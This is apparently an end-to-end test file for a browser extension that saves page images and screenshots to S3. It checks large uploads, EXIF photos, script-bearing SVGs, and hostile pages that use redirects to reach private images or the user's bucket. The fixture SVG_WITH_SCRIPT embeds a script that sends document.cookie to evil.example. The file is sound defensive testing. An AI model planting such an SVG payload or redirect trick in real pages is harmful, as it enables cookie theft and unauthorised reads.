import { HeadObjectCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RecentUpload } from '../../src/history/recent';
import { createS3Client } from '../../src/s3/client';
import { launchExtension, OptionsPage, saveKeysProfile, type ExtensionBrowser } from '../support/extension';
import { IMAGES, startImageSite, type ImageSite } from '../support/image-site';
import { strictLaneAvailable } from '../support/lanes';
import { withExif } from '../support/photo';
import { connectionTo, startSwift, type S3Server } from '../support/s3-servers';

/** The worker's `chrome` global, inside `worker.evaluate` callbacks (they run in the extension, not here). */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- typed by Chrome at run time
declare const chrome: any;

/** What the background exposes to tests on its global scope (see src/background/start.ts). */
interface Listeners {
  menu(info: object, tab: unknown): Promise<RecentUpload | null>;
  command(command: string, tab: unknown): Promise<RecentUpload | null>;
  isRegistered(): boolean;
}

interface Note {
  id: string;
  title: string;
  message: string;
}

const BUCKET = 'page-save-e2e';
const MiB = 1024 * 1024;

const SVG_WITH_SCRIPT = Buffer.from(
  `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">
  <rect width="64" height="64" fill="#c33"/>
  <script>fetch('https://evil.example/steal?c=' + encodeURIComponent(document.cookie))</script>
</svg>
`,
);

/**
 * Saving from real pages, in Debian's Chromium with the built extension,
 * against the signature-checking Swift lane: big screenshots and images,
 * a camera photo, an SVG that carries a script, and pages that try to make
 * the extension read what the user did not click. As in context-menu.test.ts,
 * each case calls the listener the extension registered (no test API can
 * click a context menu), with the `info` and `tab` a real click gives.
 *
 * The bucket is addressed as `localhost` in the profiles, the pages as
 * `127.0.0.1`: two hosts, as the user's storage and the web are.
 */
describe.skipIf(!strictLaneAvailable())('saving from pages, Chromium end to end', () => {
  let s3: S3Server;
  let site: ImageSite;
  let ext: ExtensionBrowser;
  /** The bucket's endpoint as the profiles have it. */
  let endpoint: string;
  /** Profile ids by name: "Signed" (the default), "Public", "CDN". */
  let profileIds: Record<string, string>;
  const cdnBase = () => `${site.cdnOrigin}/files/{key}`;

  const s3Client = () => createS3Client(connectionTo(s3, BUCKET));
  const listKeys = async () => ((await s3Client().send(new ListObjectsV2Command({ Bucket: BUCKET }))).Contents ?? []).map((o) => o.Key!).sort();

  async function open(path: string): Promise<Page> {
    const page = await ext.context.newPage();
    await page.goto(`${site.origin}${path}`);
    return page;
  }

  /** Adds an `<img>` to the page and waits until the browser is done with it (loaded or broken). */
  async function addImage(page: Page, src: string): Promise<void> {
    await page.evaluate(
      (src) =>
        new Promise<void>((resolve) => {
          const img = document.createElement('img');
          img.onload = img.onerror = () => resolve();
          img.src = src;
          document.body.append(img);
        }),
      src,
    );
  }

  /** What Chrome passes to onClicked for "Save image to S3" (or a profile's item under it) on `srcUrl` in `page`. */
  async function rightClickSave(page: Page, srcUrl: string, profile?: string): Promise<RecentUpload | null> {
    const menuItemId = profile ? `save-image@${profileIds[profile]}` : 'save-image';
    return ext.worker.evaluate(
      async ({ srcUrl, pageUrl, menuItemId }) => {
        const listeners = (globalThis as unknown as { __s3dropListeners: Listeners }).__s3dropListeners;
        if (!listeners.isRegistered()) throw new Error('the listeners are not the ones registered with the browser');
        const [tab] = await chrome.tabs.query({ url: pageUrl });
        return listeners.menu({ menuItemId, mediaType: 'image', srcUrl, pageUrl, frameId: 0, editable: false }, tab);
      },
      { srcUrl, pageUrl: page.url(), menuItemId },
    );
  }

  /**
   * Notifications shown from now on, with their text: Chrome has no getter for
   * a notification's message, so `notifications.create` is wrapped in this
   * test's worker (the extension's code calls it as usual).
   */
  async function notificationsFrom(): Promise<() => Promise<Note[]>> {
    const start = await ext.worker.evaluate(() => {
      const g = globalThis as unknown as { __notes?: Note[] };
      if (!g.__notes) {
        g.__notes = [];
        const create = chrome.notifications.create.bind(chrome.notifications);
        chrome.notifications.create = (id: string, options: { title: string; message: string }) => {
          g.__notes!.push({ id, title: options.title, message: options.message });
          return create(id, options);
        };
      }
      return g.__notes.length;
    });
    return () => ext.worker.evaluate((start) => (globalThis as unknown as { __notes: Note[] }).__notes.slice(start), start);
  }

  async function linkBytes(upload: RecentUpload): Promise<{ res: Response; bytes: Buffer }> {
    const res = await fetch(upload.link!);
    return { res, bytes: Buffer.from(await res.arrayBuffer()) };
  }

  beforeAll(async () => {
    s3 = await startSwift({ buckets: [BUCKET] });
    site = await startImageSite();
    endpoint = `http://localhost:${new URL(s3.endpoint).port}`;
    // As if the user had accepted the prompts: the bucket, the image origins, and what a real click's
    // activeTab grant gives captureVisibleTab (a test cannot make that gesture).
    ext = await launchExtension({ hostOrigins: [`${endpoint}/*`, `${site.origin}/*`, '<all_urls>'] });
    // One bucket, three ways of linking to it.
    await saveKeysProfile(ext, s3, BUCKET, endpoint, 'Signed');
    await saveKeysProfile(ext, s3, BUCKET, endpoint, 'Public');
    await saveKeysProfile(ext, s3, BUCKET, endpoint, 'CDN');
    const options = await OptionsPage.open(ext);
    await options.selectProfile('Public');
    await options.page.getByRole('radio', { name: 'Public links (the object’s plain URL)' }).check();
    expect(await options.save()).toMatch(/^Saved/);
    await options.selectProfile('CDN');
    await options.page.getByRole('radio', { name: 'Links on my own domain (a CDN)' }).check();
    await options.page.getByLabel('Link address', { exact: true }).fill(cdnBase());
    expect(await options.save()).toMatch(/^Saved/);
    await options.page.close();
    const store = await ext.worker.evaluate(async () => (await chrome.storage.local.get('profile')).profile);
    profileIds = Object.fromEntries((store.profiles as { id: string; name: string }[]).map((p) => [p.name, p.id]));
    expect(Object.keys(profileIds).sort()).toEqual(['CDN', 'Public', 'Signed']);
    expect(store.defaultId).toBe(profileIds.Signed);
  }, 120_000);
  afterAll(async () => {
    await ext?.close();
    await site?.stop();
    await s3?.stop();
  });

  it('a screenshot of a busy 1280×800 page is a PNG of several MB, of the tab’s size, behind the link', async () => {
    const page = await ext.context.newPage();
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto(`${site.origin}/busy`);
    const size = await page.evaluate(() => ({ w: Math.round(innerWidth * devicePixelRatio), h: Math.round(innerHeight * devicePixelRatio) }));
    expect(size.w).toBeGreaterThanOrEqual(1280);
    expect(size.h).toBeGreaterThanOrEqual(800);
    // Drawn for this size (a resize redraws it).
    await page.waitForFunction((s) => document.body.dataset.drawn === `${s.w}x${s.h}`, size);
    await page.bringToFront();
    const upload = await ext.worker.evaluate(async (pageUrl) => {
      const listeners = (globalThis as unknown as { __s3dropListeners: Listeners }).__s3dropListeners;
      const [tab] = await chrome.tabs.query({ url: pageUrl });
      return listeners.command('save-screenshot', tab);
    }, page.url());
    expect(upload?.status, upload?.error?.message ?? 'no upload').toBe('done');
    const { res, bytes } = await linkBytes(upload!);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(bytes.subarray(1, 4).toString()).toBe('PNG');
    expect({ w: bytes.readUInt32BE(16), h: bytes.readUInt32BE(20) }).toEqual(size);
    expect(bytes.length).toBeGreaterThan(2 * MiB);
    expect(upload!.size).toBe(bytes.length);
    await page.close();
  });

  it('a 5 MB data: image comes back through the link byte for byte', async () => {
    const page = await open('/blank/data');
    // Full-colour noise: its PNG is as large as its pixels.
    const dataUrl = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const canvas = document.createElement('canvas');
          canvas.width = 1300;
          canvas.height = 1300;
          const ctx = canvas.getContext('2d')!;
          const pixels = ctx.createImageData(canvas.width, canvas.height);
          const words = new Uint32Array(pixels.data.buffer);
          for (let i = 0; i < words.length; i += 16384) crypto.getRandomValues(words.subarray(i, i + 16384));
          for (let i = 3; i < pixels.data.length; i += 4) pixels.data[i] = 255;
          ctx.putImageData(pixels, 0, 0);
          const img = document.createElement('img');
          img.id = 'big';
          img.onload = () => resolve(img.src);
          img.src = canvas.toDataURL('image/png');
          document.body.append(img);
        }),
    );
    const expected = Buffer.from(dataUrl.slice(dataUrl.indexOf(',') + 1), 'base64');
    expect(expected.length).toBeGreaterThan(5_000_000);
    const upload = await rightClickSave(page, await page.locator('#big').evaluate((img: HTMLImageElement) => img.src));
    expect(upload?.status, upload?.error?.message).toBe('done');
    expect(upload!.type).toBe('image/png');
    const { res, bytes } = await linkBytes(upload!);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(bytes.equals(expected)).toBe(true);
    await page.close();
  });

  it('a 3 MiB camera photo with EXIF, from another origin: same bytes, image/jpeg, its own name', async () => {
    const page = await open('/blank/photo');
    // The browser's JPEG encoder on noise, grown until the file passes 3 MiB; the camera's EXIF goes in after.
    const base64 = await page.evaluate(async () => {
      for (let side = 1400; ; side = Math.round(side * 1.2)) {
        const canvas = new OffscreenCanvas(side, Math.round((side * 3) / 4));
        const ctx = canvas.getContext('2d')!;
        const pixels = ctx.createImageData(canvas.width, canvas.height);
        const words = new Uint32Array(pixels.data.buffer);
        for (let i = 0; i < words.length; i += 16384) crypto.getRandomValues(words.subarray(i, i + 16384));
        ctx.putImageData(pixels, 0, 0);
        const blob = await canvas.convertToBlob({ type: 'image/jpeg', quality: 0.92 });
        if (blob.size >= 3 * 1024 * 1024) {
          const bytes = new Uint8Array(await blob.arrayBuffer());
          let binary = '';
          for (let i = 0; i < bytes.length; i += 0x8000) binary += String.fromCharCode(...bytes.subarray(i, i + 0x8000));
          return btoa(binary);
        }
      }
    });
    const photo = withExif(Buffer.from(base64, 'base64'), { make: 'Canon', model: 'Canon EOS R6', dateTime: '2026:11:28 14:03:51' });
    expect(photo.length).toBeGreaterThanOrEqual(3 * MiB);
    site.serve('/photos/IMG_2041.JPG', { headers: { 'content-type': 'image/jpeg' }, body: photo });
    const src = `${site.otherOrigin}/photos/IMG_2041.JPG`;
    await addImage(page, src);
    expect(await page.locator('img').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
    const upload = await rightClickSave(page, src);
    expect(upload?.status, upload?.error?.message).toBe('done');
    expect(upload!.name).toBe('IMG_2041.JPG');
    expect(upload!.type).toBe('image/jpeg');
    const { res, bytes } = await linkBytes(upload!);
    expect(res.headers.get('content-type')).toBe('image/jpeg');
    expect(bytes.equals(photo)).toBe(true);
    expect(bytes.subarray(6, 12).toString('latin1')).toBe('Exif\0\0');
    await page.close();
  });

  describe('an SVG that carries a script is never served inline as SVG, whatever the link', () => {
    const servings = [
      ['served as image/svg+xml', '/img/drawing.svg', 'image/svg+xml', 'drawing.svg'],
      ['lying, served as image/png', '/img/avatar.png', 'image/png', 'avatar.png.svg'],
    ] as const;
    const modes = ['Signed', 'Public', 'CDN'] as const;
    it.each(modes.flatMap((mode) => servings.map(([label, path, type, name]) => [mode, label, path, type, name] as const)))(
      '%s link, %s',
      async (mode, _label, path, type, name) => {
        site.serve(path, { headers: { 'content-type': type }, body: SVG_WITH_SCRIPT });
        const page = await open(`/blank/svg-${mode}-${path.replace(/\W/g, '')}`);
        const src = `${site.otherOrigin}${path}`;
        await addImage(page, src);
        const upload = await rightClickSave(page, src, mode);
        expect(upload?.status, upload?.error?.message).toBe('done');
        expect(upload!.name).toBe(name);
        expect(upload!.type).toBe('application/octet-stream');
        // What the object is stored with, read with a plain signed GET (no response-* overrides): what a
        // public or own-domain link serves, since those cannot ask S3 for anything else.
        const stored = await s3Client().send(new HeadObjectCommand({ Bucket: BUCKET, Key: upload!.key! }));
        expect(stored.ContentType).toBe('application/octet-stream');
        expect(stored.ContentDisposition).toBe(`attachment; filename="${name}"; filename*=UTF-8''${encodeURIComponent(name)}`);
        const link = new URL(upload!.link!);
        if (mode === 'Signed') {
          // A signed link is served here: read what it answers.
          const { res, bytes } = await linkBytes(upload!);
          expect(res.status).toBe(200);
          expect(res.headers.get('content-type')).toBe('application/octet-stream');
          expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
          expect(bytes.equals(SVG_WITH_SCRIPT)).toBe(true);
        } else {
          // Swift's S3 API answers anonymous GETs with 403, so the stored headers above stand for the answer.
          expect(link.searchParams.has('X-Amz-Signature')).toBe(false);
          expect(upload!.link!.startsWith(mode === 'Public' ? `${endpoint}/${BUCKET}/` : `${site.cdnOrigin}/files/`)).toBe(true);
        }
        await page.close();
      },
    );
  });

  describe('a hostile page', () => {
    it('cannot get a cookie-protected image on another origin saved by redirecting its image there', async () => {
      // The cookie-only image really is private: without the page's cookie its server refuses it.
      expect((await fetch(`${site.origin}/img/cookie.png`)).status).toBe(403);
      const page = await open('/');
      await page.waitForFunction(() => document.cookie.includes('s3drop_session='));
      site.serve('/img/innocent.png', { status: 302, headers: { location: `${site.origin}/img/cookie.png` } });
      const src = `${site.otherOrigin}/img/innocent.png`;
      await addImage(page, src);
      const keysBefore = await listKeys();
      const notes = await notificationsFrom();
      expect(await rightClickSave(page, src)).toBeNull();
      expect(await notes()).toEqual([
        {
          id: expect.stringMatching(/^s3drop-error-/),
          title: 'Image not saved',
          message: `${new URL(site.otherOrigin).host} answered HTTP 403 for the image, so nothing was uploaded.`,
        },
      ]);
      expect(await listKeys()).toEqual(keysBefore);
      await page.close();
    });

    it('cannot get the user’s own bucket read by redirecting its image there', async () => {
      await s3Client().send(new PutObjectCommand({ Bucket: BUCKET, Key: 'private/payroll.png', Body: IMAGES.cookie, ContentType: 'image/png' }));
      site.serve('/img/logo.png', { status: 302, headers: { location: `${endpoint}/${BUCKET}/private/payroll.png` } });
      const page = await open('/blank/hostile-bucket');
      const src = `${site.otherOrigin}/img/logo.png`;
      await addImage(page, src);
      const keysBefore = await listKeys();
      const notes = await notificationsFrom();
      expect(await rightClickSave(page, src)).toBeNull();
      expect(await notes()).toEqual([
        {
          id: expect.stringMatching(/^s3drop-error-/),
          title: 'Image not saved',
          message: `The image’s address sent S3 Drop on to ${new URL(endpoint).host}, where your own files are kept. S3 Drop does not read from there for a page, so nothing was uploaded.`,
        },
      ]);
      expect(await listKeys()).toEqual(keysBefore);
      await page.close();
    });

    it('an image that moved to another public origin is still saved', async () => {
      const page = await open('/blank/moved');
      const src = `${site.otherOrigin}/img/moved.png`;
      await addImage(page, src);
      const upload = await rightClickSave(page, src);
      expect(upload?.status, upload?.error?.message).toBe('done');
      expect(upload!.name).toBe('moved.png');
      const { res, bytes } = await linkBytes(upload!);
      expect(res.headers.get('content-type')).toBe('image/png');
      expect(bytes.equals(IMAGES.cdn)).toBe(true);
      await page.close();
    });
  });
});
